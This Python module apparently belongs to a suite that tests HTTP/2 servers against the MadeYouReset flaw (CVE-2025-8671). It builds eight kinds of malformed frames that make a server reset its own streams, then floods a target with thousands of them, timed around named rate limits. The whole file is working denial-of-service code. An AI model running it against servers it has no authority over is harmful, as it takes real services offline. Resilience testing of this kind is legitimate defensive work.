"""MadeYouReset (CVE-2025-8671): frames that make the server reset its own streams."""

import dataclasses

from frames import (
    DATA, END_HEADERS, END_STREAM, HAS_PRIORITY, HEADERS, PRIORITY, SEARCH, Report, block, flood,
    frame, literal, message, window_update, QUERY)

LIMIT = "`floodFramesBurst` 1,000, then `floodFramesPerSecond` 100"
RULE = "closed within 1 s"
HEAD = block(SEARCH)


def opened(stream, head=HEAD, flags=0):
    return frame(HEADERS, END_HEADERS | flags, stream, head)


def window_overflow(stream):
    return opened(stream) + window_update(stream, 0x7FFF_FFFF)


def zero_window_update(stream):
    return opened(stream) + window_update(stream, 0)


def body_behind_the_end(stream):
    return (opened(stream) + frame(DATA, END_STREAM, stream, message(QUERY))
            + frame(DATA, 0, stream, b"more"))


def own_parent(stream):
    dependency = stream.to_bytes(4, "big") + b"\x10"
    return (frame(HEADERS, END_HEADERS | HAS_PRIORITY, stream, dependency + HEAD)
            + frame(PRIORITY, 0, stream, dependency))


def short_priority(stream):
    return opened(stream) + frame(PRIORITY, 0, stream, b"abc")


def wrong_length(stream):
    return (opened(stream, HEAD + literal("content-length", "1"))
            + frame(DATA, END_STREAM, stream, message(QUERY)))


def malformed_field(stream):
    return opened(stream, HEAD + literal("X-Upper", "x"))


def credit_first(stream):
    """Answers before the ends of their requests, which might excuse a reset of the server's."""
    early = block("/no.Such/Method")
    return (opened(stream, early) + frame(DATA, END_STREAM, stream)
            + opened(stream + 2, early) + frame(DATA, END_STREAM, stream + 2)
            + wrong_length(stream + 4))


KINDS = [
    window_overflow, zero_window_update, body_behind_the_end, own_parent, short_priority,
    wrong_length, malformed_field, credit_first]


def run(target):
    total = Report(is_refused=True, slowest=0.0)
    words = []
    for kind in KINDS:
        step = 6 if kind is credit_first else 2
        all_ = [kind(1 + step * number) for number in range(4_000)]
        pieces = [(b"".join(all_[first:first + 100]), 100) for first in range(0, len(all_), 100)]
        one = flood(
            dataclasses.replace(target, seconds=target.seconds / len(KINDS)), b"", pieces, 1_000)
        total.is_refused &= one.is_refused
        total.slowest = max(total.slowest, one.slowest)
        total.connections += one.connections
        total.units += one.units
        total.bytes += one.bytes
        words.append(f"{kind.__name__.replace('_', ' ')}: {one.what}")
    total.what = "; ".join(words)
    return total
